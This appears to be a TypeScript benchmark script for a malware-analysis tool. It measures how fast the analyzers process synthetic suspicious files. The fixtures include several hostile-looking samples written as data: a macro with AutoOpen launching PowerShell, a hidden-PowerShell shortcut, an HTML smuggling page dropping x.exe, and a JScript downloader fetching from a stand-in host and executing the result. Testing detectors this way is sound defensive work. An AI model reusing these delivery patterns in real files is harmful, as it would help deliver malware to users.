/**
 * `npm run bench -- --analysis`: the analyzers' speed per file type — files per second and p99
 * time — on the fixtures the tests write (a PE with imports, a Word file with a macro, a PDF with
 * JavaScript, a shortcut, an HTML smuggling page, a JScript downloader, an ISO with an exe), and
 * a 5 MB PE to show the cost of size.
 */

import { analyze } from '../src/analysis/analyze.ts';
import { identify } from '../src/inspect/file-type.ts';
import { iso, lnk, oleWithMacro, pdf, peFile } from '../test/helpers/analysis-fixtures.ts';

export interface AnalysisBenchResult {
  readonly type: string;
  readonly bytes: number;
  readonly filesPerSec: number;
  readonly p99Ms: number;
}

export async function runAnalysisBench(runs: number): Promise<AnalysisBenchResult[]> {
  const big = Buffer.concat([peFile({ imports: ['WinExec'] }), Buffer.alloc(5 * 1024 * 1024, 0x90)]);
  const samples: Array<[string, Buffer]> = [
    ['pe', peFile({ imports: ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'] })],
    ['pe 5 MB', big],
    ['doc (macro)', oleWithMacro('Sub AutoOpen()\r\n Shell "powershell -c x"\r\nEnd Sub\r\n')],
    ['pdf (js)', pdf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
    ['lnk', lnk('C:\\Windows\\System32\\cmd.exe', '/c powershell -w hidden')],
    ['html (smuggling)', Buffer.from(`<html><script>var d=atob("${'QUFB'.repeat(2000)}");var b=new Blob([new Uint8Array(1)]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="x.exe";</script></html>`)],
    ['js (downloader)', Buffer.from('var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","http://e/p",false);new ActiveXObject("WScript.Shell").Run("p.exe");')],
    ['iso (exe inside)', iso(['setup.exe'])],
  ];
  const results: AnalysisBenchResult[] = [];
  process.stdout.write('\nanalysis speed (in-process, per file):\n');
  for (const [label, bytes] of samples) {
    const id = await identify(bytes.subarray(0, 36 * 1024), bytes.subarray(-512), bytes);
    const input = { bytes, detectedType: id.type, name: null, flags: id.flags };
    const n = label.includes('5 MB') ? Math.max(5, Math.floor(runs / 50)) : runs;
    const times: number[] = [];
    for (let i = 0; i < n; i++) {
      const t0 = process.hrtime.bigint();
      analyze(input);
      times.push(Number(process.hrtime.bigint() - t0) / 1e6);
    }
    times.sort((a, b) => a - b);
    const total = times.reduce((a, b) => a + b, 0);
    const r = { type: label, bytes: bytes.length, filesPerSec: n / (total / 1000), p99Ms: times[Math.min(times.length - 1, Math.floor(times.length * 0.99))]! };
    results.push(r);
    process.stdout.write(`  ${label.padEnd(18)} ${String(bytes.length).padStart(8)} bytes  ${r.filesPerSec.toFixed(0).padStart(7)} files/s  p99 ${r.p99Ms.toFixed(3)} ms\n`);
  }
  return results;
}
